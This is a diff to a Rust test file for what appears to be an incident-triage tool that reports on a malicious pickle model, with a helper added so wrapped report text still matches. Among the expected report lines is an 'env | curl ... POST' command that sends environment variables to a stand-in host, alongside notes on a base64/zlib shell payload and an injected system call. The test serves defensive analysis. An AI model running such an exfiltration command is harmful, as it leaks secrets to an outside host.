@@ -13,6 +13,11 @@ fn answer(report: &str) -> &str {
     report.get(..end).expect("a boundary")
 }
 
+/// Text without its line breaks, so that what is looked for may be wrapped.
+fn flat(text: &str) -> String {
+    text.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
 #[test]
 fn print_the_sample() {
     if let Ok(name) = std::env::var("WEIGHBRIDGE_SAMPLE") {
@@ -50,7 +55,7 @@ fn the_first_25_lines_answer_the_analyst() {
         "no approval or ticket",
         "$ nft add rule inet filter output ip daddr 203.0.113.44 drop",
     ] {
-        assert!(answer.contains(expected), "`{expected}` is not in:\n{answer}");
+        assert!(flat(answer).contains(&flat(expected)), "`{expected}` is not in:\n{answer}");
     }
 }
 
@@ -63,17 +68,16 @@ fn the_detail_holds_what_the_answer_rests_on() {
         "payload: shell, taken out of base64, then zlib",
         "│ env | curl -s -X POST --data-binary @- https://metrics-relay.example/v1/ingest",
         "    6 > _1 = system(",
-        "INFERRED  the payload ran",
-        "INTRODUCED: triage.pt deployed",
-        "periodic 30 min",
+        "INFERRED  data.pkl:1      the payload ran",
+        "rollout.log:5   INTRODUCED  triage.pt deployed",
+        "periodic, every 30 min (score 0.96)",
         "MISMATCH    models/live/triage.pt",
         "+ added    global  posix.system",
-        "17 d",
         "part  `c9}`",
         "ERADICATE",
         "UNREAD  notes.bin: no format claims it",
     ] {
-        assert!(report.contains(expected), "`{expected}` is not in:\n{report}");
+        assert!(flat(&report).contains(&flat(expected)), "`{expected}` is not in:\n{report}");
     }
 }
 
